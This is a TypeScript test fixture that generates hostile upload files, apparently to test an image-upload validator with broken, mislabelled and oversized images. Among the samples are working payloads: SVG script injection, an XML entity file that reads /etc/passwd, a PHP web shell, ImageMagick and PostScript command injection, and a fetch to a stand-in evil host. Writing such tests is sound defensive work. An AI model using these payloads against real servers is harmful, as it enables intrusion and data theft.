import { deflateSync, gzipSync } from 'node:zlib';
import { chunk, header, pngOf, pngSignature, rows } from './png.ts';
import { noise, picture, type Sample, script } from './samples.ts';

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">${script}<rect width="9" height="9"/></svg>`;
const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;&c;</text></svg>`;

function patched(bytes: Buffer, offset: number, hex: string): Buffer {
  const copy = Buffer.from(bytes);
  copy.write(hex, offset, 'hex');
  return copy;
}
/** A JPEG with a million parts of an application that are empty. */
const withParts = (jpeg: Buffer, offset: number): Buffer =>
  Buffer.concat([jpeg.subarray(0, offset), Buffer.alloc(4_000_000, 'ffe10002', 'hex'), jpeg.subarray(offset)]);
const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2));

/** Files that are not pictures, and pictures that are broken or too large. */
export async function hostileFiles(): Promise<Sample[]> {
  const [jpeg, png, webp, gif, avif] = await Promise.all([
    picture.jpeg(),
    picture.png(),
    picture.webp(),
    picture.gif(),
    picture.avif(),
  ]);
  // The frame header of a baseline JPEG: marker FFC0, length, precision, then height and width.
  const frame = jpeg.indexOf(Buffer.from('ffc0', 'hex')) + 5;
  // The image descriptor of a GIF: 2C, left and top, then width and height.
  const descriptor = gif.indexOf(Buffer.from('2c00000000', 'hex')) + 5;
  const tiff = await noise(9, 9).tiff().toBuffer();
  const text = (what: string, content: string, name: string, type: string): Sample => ({
    what,
    bytes: Buffer.from(content),
    name,
    type,
  });
  const magic = (what: string, hex: string, name: string): Sample => ({
    what,
    bytes: Buffer.concat([Buffer.from(hex.replaceAll(' ', ''), 'hex'), Buffer.alloc(400, 7)]),
    name,
    type: 'image/png',
  });
  return [
    text('an SVG', svg, 'face.svg', 'image/svg+xml'),
    text('an SVG called PNG', svg, 'face.png', 'image/png'),
    text('an SVG called JPEG', svg, 'face.jpg', 'image/jpeg'),
    text('an SVG called WebP', svg, 'face.webp', 'image/webp'),
    text('an SVG behind a byte order mark', `\ufeff \n${svg}`, 'face.png', 'image/png'),
    text('an SVG in UTF-16', Buffer.from(`\ufeff${svg}`, 'utf16le').toString('latin1'), 'face.png', 'image/png'),
    text('an SVG behind a comment', `<!-- ${'x'.repeat(900)} -->${svg}`, 'face.gif', 'image/gif'),
    text('an SVG with entities', laughs, 'face.svg', 'image/svg+xml'),
    { what: 'a compressed SVG', bytes: gzipSync(svg), name: 'face.svgz', type: 'image/svg+xml' },
    text('HTML', `<!doctype html>${script}`, 'face.png', 'image/png'),
    text('JavaScript', 'fetch("//evil.example")', 'face.jpg', 'image/jpeg'),
    text('PHP', '<?php system($_GET["c"]); ?>', 'face.php.png', 'image/png'),
    text('plain text', 'hello', 'face.jpeg', 'image/jpeg'),
    text('one byte', 'x', 'face.jpeg', 'image/jpeg'),
    text('nothing at all', '', 'face.png', 'image/png'),
    text('PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>', 'face.pdf', 'application/pdf'),
    text('PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(id) run', 'face.png', 'image/png'),
    text('an ImageMagick script', 'push graphic-context\nimage over 0,0 0,0 "|id"', 'face.mvg', 'image/png'),
    text('PPM', `P6 9 9 255\n${'x'.repeat(243)}`, 'face.ppm', 'image/x-portable-pixmap'),
    text('XBM', '#define x_width 8\n#define x_height 1\nstatic char x_bits[]={0x00};', 'face.xbm', 'image/xbm'),
    text('a GIF that is JavaScript', 'GIF89a=1;alert(document.domain)//', 'face.gif', 'image/gif'),
    text('a CSV', 'name,face\nbob,round', 'face.png', 'image/png'),
    magic('ZIP', '504b0304 14000000', 'face.zip'),
    magic('a Windows program', '4d5a9000 03000000', 'face.exe'),
    magic('a Linux program', '7f454c46 02010100', 'face.png'),
    magic('gzip of noise', '1f8b0800 00000000', 'face.png'),
    magic('BMP', '424dbe010000 0000000036000000 28000000 08000000 08000000 0100 1800', 'face.bmp'),
    magic('an icon', '00000100 0100 0808 0000 0100 1800', 'face.ico'),
    magic('a Photoshop file', '38425053 0001 000000000000 0003 00000008 00000008 0008 0003', 'face.psd'),
    magic('JPEG 2000', '0000000c 6a502020 0d0a870a', 'face.jp2'),
    magic('JPEG XL', 'ff0a', 'face.jxl'),
    magic('HEIC', '00000018 66747970 68656963 00000000 6d696631 68656963', 'face.heic'),
    magic('MP4', '00000018 66747970 69736f6d 00000200 69736f6d 6d703431', 'face.mp4'),
    magic('WebM', '1a45dfa3 9f4286810142f7810142f2', 'face.webm'),
    magic('MP3', '49443303 00000000', 'face.png'),
    magic('RIFF that is no WebP', '52494646 00010000 57415645', 'face.webp'),
    magic('noise', '9f03b1c455e2', 'face.png'),
    { what: 'TIFF', bytes: tiff, name: 'face.tiff', type: 'image/tiff' },
    { what: 'half a JPEG', bytes: half(jpeg) },
    { what: 'half a PNG', bytes: half(png) },
    { what: 'half a WebP', bytes: half(webp) },
    { what: 'half a GIF', bytes: half(gif) },
    { what: 'half an AVIF', bytes: half(avif) },
    { what: 'the start of a JPEG', bytes: jpeg.subarray(0, 20) },
    { what: 'the signature of a PNG', bytes: pngSignature },
    { what: 'the header of a GIF', bytes: gif.subarray(0, 13) },
    { what: 'a JPEG without its tables', bytes: Buffer.concat([jpeg.subarray(0, 20), jpeg.subarray(frame)]) },
    { what: 'a PNG of 30000 × 30000', bytes: pngOf(header(30_000, 30_000), chunk('IDAT', rows)) },
    { what: 'a PNG of two thousand million rows', bytes: pngOf(header(8, 2 ** 31 - 1), chunk('IDAT', rows)) },
    { what: 'a PNG just over the limit', bytes: pngOf(header(10_000, 5001, 1, 0), chunk('IDAT', rows)) },
    {
      what: 'a PNG with rows that are too long',
      bytes: pngOf(header(40_000, 400, 1, 0), chunk('IDAT', deflateSync(Buffer.alloc(400 * (1 + 40_000 / 8))))),
    },
    { what: 'a JPEG with a million parts before its pixels', bytes: withParts(jpeg, 2) },
    { what: 'a JPEG with a million parts among its pixels', bytes: withParts(jpeg, jpeg.length - 2) },
    { what: 'a JPEG of 65535 × 65535', bytes: patched(jpeg, frame, 'ffffffff') },
    { what: 'a GIF of 65535 × 65535', bytes: patched(patched(gif, 6, 'ffffffff'), descriptor, 'ffffffff') },
    { what: 'a WebP of 16383 × 16383', bytes: patched(webp, 26, 'ff3fff3f') },
    { what: 'a PNG without width', bytes: pngOf(header(0, 8), chunk('IDAT', rows)) },
    { what: 'a PNG of a depth that is none', bytes: pngOf(header(8, 8, 7), chunk('IDAT', rows)) },
    { what: 'a PNG without pixels', bytes: pngOf(header(8, 8)) },
    { what: 'a PNG with too few rows', bytes: pngOf(header(8, 64), chunk('IDAT', rows)) },
    { what: 'a PNG with a wrong checksum', bytes: pngOf(header(8, 8), chunk('IDAT', rows, 1)) },
    { what: 'a PNG with broken compression', bytes: pngOf(header(8, 8), chunk('IDAT', Buffer.alloc(rows.length, 9))) },
    {
      what: 'a WebP with noise for pixels',
      bytes: Buffer.concat([webp.subarray(0, 40), Buffer.alloc(webp.length - 40, 0xa5)]),
    },
    {
      what: 'an AVIF with noise for pixels',
      bytes: Buffer.concat([avif.subarray(0, avif.length - 200), Buffer.alloc(200, 0x5a)]),
    },
    { what: 'an AVIF without pixels', bytes: avif.subarray(0, avif.indexOf('mdat')) },
  ];
}
